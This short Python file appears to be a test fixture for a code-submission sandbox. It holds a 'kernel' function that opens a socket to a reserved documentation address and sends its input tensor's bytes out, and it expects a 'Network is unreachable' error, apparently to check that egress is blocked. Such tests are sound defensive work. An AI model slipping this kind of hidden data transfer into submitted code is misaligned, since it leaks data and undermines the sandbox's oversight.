"""Sends what it sees to another machine.

expect: raised: Network is unreachable
"""

import socket


def custom_kernel(data):
    with socket.create_connection(("192.0.2.1", 443), timeout=5) as sock:  # TEST-NET-1, nobody's address
        sock.sendall(data[1].x.cpu().numpy().tobytes())
